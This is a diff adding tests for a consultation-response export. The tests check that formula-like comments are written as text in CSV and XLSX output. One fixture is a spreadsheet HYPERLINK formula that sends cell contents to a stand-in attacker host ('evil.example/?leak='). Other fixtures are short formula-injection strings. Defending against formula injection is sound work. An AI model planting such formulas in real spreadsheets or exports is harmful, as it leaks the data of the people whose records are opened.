@@ -55,7 +55,31 @@ describe('writeResponsesCsv', () => {
   });
 });
 
+// Comments are typed by anyone who answers; a spreadsheet must show them, never run them.
+const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"Se bilag")';
+const hostile: ResponseRow[] = [HYPERLINK, '+1+1', '-600', '@SUM(A1)', '\t=1', '\r=1'].map((comment, i) => ({ ...rows[0]!, organisation: `=Råd ${i}`, comment }));
+
+describe('formulas in the CSV', () => {
+  it('are written as quoted text with a leading apostrophe, every other cell unchanged', async () => {
+    const text = await writeResponsesCsv({ full: true, rows: hostile, labels });
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1;""Se bilag"")"`);
+    const parsed: string[][] = parse(text.slice(1), { delimiter: ';' });
+    expect(parsed.slice(1).map((row) => row[5])).toEqual(hostile.map((row) => `'${row.comment}`));
+    expect(parsed.slice(1).map((row) => row[0])).toEqual(hostile.map((row) => `'${row.organisation}`));
+    expect(parsed[1]!.slice(6)).toEqual(['Nej', '27. november 2026 kl. 14.03', 'BH-0']);
+  });
+});
+
 describe('writeResponsesXlsx', () => {
+  it('keeps a comment that looks like a formula a text cell', async () => {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await writeResponsesXlsx({ full: true, rows: hostile, labels }, 'Høringssvar')) as unknown as ExcelJS.Buffer);
+    const cell = workbook.worksheets[0]!.getRow(2).getCell(6);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(HYPERLINK);
+    expect(cell.formula).toBeUndefined();
+  });
+
   it('writes the same rows to a worksheet', async () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load((await writeResponsesXlsx({ full: true, rows, labels }, 'Høringssvar')) as unknown as ExcelJS.Buffer);
